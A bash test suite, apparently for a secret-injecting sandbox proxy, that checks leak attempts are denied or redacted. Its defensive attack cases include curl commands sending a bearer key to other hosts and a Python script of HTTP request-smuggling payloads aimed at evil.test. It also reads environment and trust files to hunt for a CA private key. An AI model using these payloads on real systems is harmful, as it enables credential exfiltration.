#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# A task that tries to get the value of a secret, or to have it sent where it does not belong: the placeholder
# goes on as it is and is told, or the request is refused.
# needs: curl jq python3
# timeout: 300
# shellcheck source=tests/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
# shellcheck source=tests/secrets.bash
. "$TESTS/secrets.bash"
repo
# attack NAME SCRIPT: with the secret, a second host and plain HTTP within reach. The value is nowhere but in
# requests that may have it.
attack() {
  local name=$1
  : >"$NET/asked.log"
  run_net "$name" --secret key --allow "good.test:$echo_tls,private" --allow "other.test:$echo_tls,private,terminate" \
    --allow "good.test:$echo_http,private" -e U="$URL" -e P="http://good.test:$echo_http" -e O="https://other.test:$echo_tls" -- sh -c "$2"
  printf '%s: exit %s: %s %s\n' "$name" "$code" "$out" "$err" >>"$SCRATCH/attacks.log"
  case $out$err$(codexos events --json "$name") in *"$SECRET"*) fail "$name: the task got the value: $out $err" ;; esac
}
no_value() { case $(cat "$NET/asked.log") in *"$SECRET"*) fail "$1: the server got the value: $(cat "$NET/asked.log")" ;; esac }

step 'another host, another header, another port without TLS, the URL, the body'
attack host 'curl -sS -H "Authorization: Bearer $KEY" $O/x'
no_value host
expect_has "$(header authorization)" 'Bearer cxsec_'
expect_has "$(told host)" 'denied secret key in header authorization: it is not bound to this host and port'
attack other-header 'curl -sS -H "X-Key: $KEY" $U/x'
no_value header
expect_has "$(header x-key)" cxsec_
expect_has "$(told other-header)" 'denied secret key in header x-key'
attack http 'curl -sS -H "Authorization: Bearer $KEY" $P/x'
no_value http
expect_has "$(header authorization)" 'Bearer cxsec_'
expect_has "$(told http)" 'denied secret key in header authorization: not in TLS'
attack url 'curl -sS "$U/x?key=$KEY"'
no_value url
expect_has "$(told url)" 'denied secret key in a URL'
attack body 'curl -sS -d "key=$KEY" $U/x'
no_value body
expect_has "$(asked .body)" 'key=cxsec_'
expect_has "$(told body)" 'denied secret key behind the head'

step 'after a redirect the client asks again, and is judged again'
attack redirect 'curl -sSL -H "Authorization: Bearer $KEY" --location-trusted "$U/redirect?to=$O/y"'
expect_eq "$(asked .path)" /y
expect_has "$(header authorization)" 'Bearer cxsec_'

step 'a server that gives the value back: header, body, chunks, events, an upgrade, gzip'
attack echoes 'for p in x chunks events; do curl -sS -i -H "Authorization: Bearer $KEY" $U/$p; done
  curl -sS -i -N --max-time 10 -H "Authorization: Bearer $KEY" -H "Connection: Upgrade" -H "Upgrade: echo" $U/up </dev/null; true'
expect_has "$out" 'X-Echo: ********'
expect_has "$out" 'key is ********'
expect_has "$(told echoes)" 'secret.used redacted key in an answer'
attack gzip 'curl -sS --compressed -H "Authorization: Bearer $KEY" $U/gzip'
expect_has "$out" 'so that it cannot be searched'
expect_eq "$(header accept-encoding)" identity

step 'a server with the certificate of another name, or of an authority that nobody knows'
for port in $wrong_name $unknown_ca; do
  set_secret "key$port" --host "good.test:$port,private" --env KEY
  : >"$NET/asked.log"
  run_net "wrong$port" --secret "key$port" -- sh -c "curl -sS -w ' %{http_code}' -H \"Authorization: Bearer \$KEY\" https://good.test:$port/x"
  expect_has "$out" 'its certificate is not good'
  expect_has "$out" 502
  expect_eq "$(cat "$NET/asked.log")" ''
  expect_eq "$(told "wrong$port")" '' 'a value that nobody got was not used'
  expect_has "$(net_events "wrong$port" net.connection .detail)" 'its certificate is not good'
done

step 'raw bytes: two lengths, a folded line, two of the header, one request behind another, HTTP/1.0, no SNI'
cat >raw.py <<'P'
import os, socket, ssl, sys
key = os.environ['KEY']
port = int(os.environ['U'].rsplit(':', 1)[1])
bearer = 'Authorization: Bearer %s\r\n' % key
head = 'GET /%s HTTP/1.1\r\nHost: good.test\r\n'
cases = {
    'lengths': 'POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n' + bearer + '\r\n0\r\n\r\n',
    'folded': head % 'f' + 'Authorization:\r\n Bearer ' + key + '\r\n\r\n',
    'twice': head % 't' + bearer + bearer + 'Connection: close\r\n\r\n',
    'behind': head % 'a' + '\r\n' + 'GET /b HTTP/1.1\r\nHost: evil.test\r\n' + bearer + '\r\n',
    'old': 'GET /old HTTP/1.0\r\n' + bearer + '\r\n',
    'long': head % 'l' + 'X: ' + 'a' * 70000 + '\r\n' + bearer + '\r\n',
    'proxy': 'GET https://evil.test/ HTTP/1.1\r\nHost: good.test\r\n' + bearer + '\r\n',
    'newline': 'GET / HTTP/1.1\nHost: good.test\n' + bearer + '\r\n\r\n',
    'good': head % 'good' + bearer + 'Connection: close\r\n\r\n',
}
c = ssl.create_default_context()
c.check_hostname = False  # the name is not sent, so it is compared by hand
s = c.wrap_socket(socket.create_connection(('good.test', port)))
assert ('DNS', 'good.test') in s.getpeercert()['subjectAltName']
s.sendall(cases[sys.argv[1]].encode())
got = b''
try:
    while True:
        b = s.recv(65536)
        if not b:
            break
        got += b
except OSError:
    pass
sys.stdout.write(got.decode('latin-1'))
P
for how in lengths folded twice behind old long proxy newline; do
  attack "raw-$how" "python3 raw.py $how"
  no_value "$how"
done
attack raw-good 'python3 raw.py good'
expect_eq "$(header authorization)" "Bearer $SECRET" 'without SNI the name is the one that was resolved'
expect_has "$out" 'key is ***'

step 'a client that speaks HTTP/2 only, or something else, inside TLS'
cat >h2.py <<'P'
import os, socket, ssl
c = ssl.create_default_context()
c.set_alpn_protocols(['h2'])
c.wrap_socket(socket.create_connection(('good.test', int(os.environ['U'].rsplit(':', 1)[1]))), server_hostname='good.test')
P
attack h2 'python3 h2.py'
expect_has "$err" 'no application protocol'
expect_has "$(net_events h2 net.connection .detail)" 'does not speak HTTP/1.1'
attack ssh 'printf "SSH-2.0-x\r\n\r\n" | timeout 10 openssl s_client -quiet -connect good.test:'"$echo_tls"' 2>/dev/null'
no_value ssh

step 'method and path'
set_secret narrow --host "good.test:$echo_tls,private" --method GET --path /v1 --env NARROW
: >"$NET/asked.log"
run_net narrow --secret narrow -e U="$URL" -- sh -c 'for a in "-X POST $U/v1/a" "$U/v10" "--path-as-is $U/v1/../admin"; do curl -sS -o /dev/null -H "Authorization: $NARROW" $a; done'
expect_eq "$code" 0 "$err"
no_value narrow
run_net wide --secret narrow -e U="$URL" -- sh -c 'curl -sS -o /dev/null -H "Authorization: $NARROW" $U/v1/a'
expect_eq "$(header authorization)" "$SECRET"

step 'a secret that was taken away is not put in any more'
run_net fresh --secret key -e U="$URL" -- true
codexos secret rm key >/dev/null
run_captured codexos run --secret key -- true
expect_ne "$code" 0

step 'the authority is nobody else'"'"'s: its key is not in the task, and other tasks do not trust it'
set_secret key --host "good.test:$echo_tls,private" --env KEY
run_net ca --secret key -- sh -c 'cat /run/codexos/trust/* /proc/self/environ; find / -xdev -name authority.json 2>/dev/null'
case $out in *'PRIVATE KEY'* | *authority.json*) fail 'the key of the CA is inside' ;; esac
